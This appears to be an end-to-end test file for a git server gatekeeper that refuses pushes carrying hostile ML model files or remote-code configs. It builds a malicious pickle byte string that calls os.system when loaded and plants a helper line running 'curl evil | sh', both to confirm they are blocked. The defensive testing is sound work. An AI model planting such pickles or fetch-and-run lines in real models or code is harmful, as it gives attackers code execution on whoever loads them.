"""End-to-end: ML artifacts are code. Real pushes carrying hostile model files and remote-code configs.

Payloads are built byte by byte (nothing is ever unpickled).
"""

from __future__ import annotations

import json

from gitserver import Server

# protocol 2: GLOBAL os.system, then REDUCE with ('id',): what `pickle.loads` would run
MALICIOUS_PICKLE = b"\x80\x02cos\nsystem\nq\x00X\x02\x00\x00\x00idq\x01\x85q\x02Rq\x03."
# the benign twin: an OrderedDict, which torch.load(weights_only=True) allows
BENIGN_PICKLE = b"\x80\x02ccollections\nOrderedDict\nq\x00)Rq\x01."


def test_malicious_checkpoint_is_refused_even_on_a_feature_branch(server: Server) -> None:
    c = server.clone()
    c.write("weights/pytorch_model.bin", MALICIOUS_PICKLE)
    c.commit("add checkpoint")
    result = c.push("HEAD:refs/heads/feature")
    assert not result.ok, result.output
    out = result.remote
    assert "refs/heads/feature: REFUSED" in out
    assert "no approval can override this" in out
    assert "malicious: weights/pytorch_model.bin" in out and "os.system" in out
    decision = server.decisions()[-1]
    assert decision["findings"][0]["verdict"] == "malicious"
    assert server.ref("refs/heads/feature") is None


def test_benign_twin_passes_on_a_feature_branch(server: Server) -> None:
    c = server.clone()
    c.write("weights/pytorch_model.bin", BENIGN_PICKLE)
    c.commit("add checkpoint")
    result = c.push("HEAD:refs/heads/feature")
    assert result.ok, result.output


def test_malicious_blob_added_and_removed_within_one_push_is_still_refused(server: Server) -> None:
    c = server.clone()
    c.write("weights/x.bin", MALICIOUS_PICKLE)
    c.commit("add")
    c.rm("weights/x.bin")
    c.commit("remove again")
    result = c.push("HEAD:refs/heads/feature")
    assert not result.ok
    assert "malicious: weights/x.bin" in result.remote


def test_malicious_pickle_renamed_to_txt_is_found_by_content(server: Server) -> None:
    c = server.clone()
    c.write("docs/notes.txt", MALICIOUS_PICKLE)
    c.commit("notes")
    assert not c.push("HEAD:refs/heads/feature").ok


def test_break_glass_cannot_push_malicious_content(server: Server) -> None:
    c = server.clone()
    c.write("models/llama/pytorch_model.bin", MALICIOUS_PICKLE)
    c.commit("hotfix weights")
    result = c.push(options=["gatekeeper.break-glass=outage"], env={"GATEKEEPER_USER": "dave"})
    assert not result.ok
    assert "break-glass cannot override" in result.remote


def test_auto_map_with_modeling_file_on_main_needs_approval(server: Server) -> None:
    c = server.clone()
    config = {"architectures": ["XModel"], "auto_map": {"AutoModel": "modeling_x.XModel"}}
    c.write("hub/x/config.json", json.dumps(config))
    c.write("hub/x/modeling_x.py", "from .utils import helper\nclass XModel: pass\n")
    c.write("hub/x/utils.py", "def helper(): pass\n")
    c.commit("remote code model")
    result = c.push()
    assert not result.ok
    out = result.remote
    assert "rule remote-code (code that configs make run on load)" in out
    assert "hub/x/utils.py" in out  # not named by any rule: protected because modeling_x.py imports it


def test_changing_only_a_file_the_modeling_code_imports_needs_approval(server: Server) -> None:
    c = server.clone()
    config = {"auto_map": {"AutoModel": "modeling_x.XModel"}}
    c.write("hub/x/config.json", json.dumps(config))
    c.write("hub/x/modeling_x.py", "from .utils import helper\nclass XModel: pass\n")
    c.write("hub/x/utils.py", "def helper(): pass\n")
    c.commit("remote code model")
    assert c.push(options=["gatekeeper.break-glass=seed"], env={"GATEKEEPER_USER": "dave"}).ok
    c.write("hub/x/utils.py", "import os\ndef helper(): os.system('curl evil | sh')\n")
    c.commit("innocent-looking helper change")
    result = c.push()
    assert not result.ok
    assert "rule remote-code" in result.remote and "hub/x/utils.py" in result.remote


def test_gitattributes_change_on_main_needs_approval(server: Server) -> None:
    c = server.clone()
    c.write(".gitattributes", "*.bin filter=lfs diff=lfs merge=lfs -text\n")
    c.commit("lfs")
    result = c.push()
    assert not result.ok
    assert "rule repository-plumbing" in result.remote and ".gitattributes" in result.remote
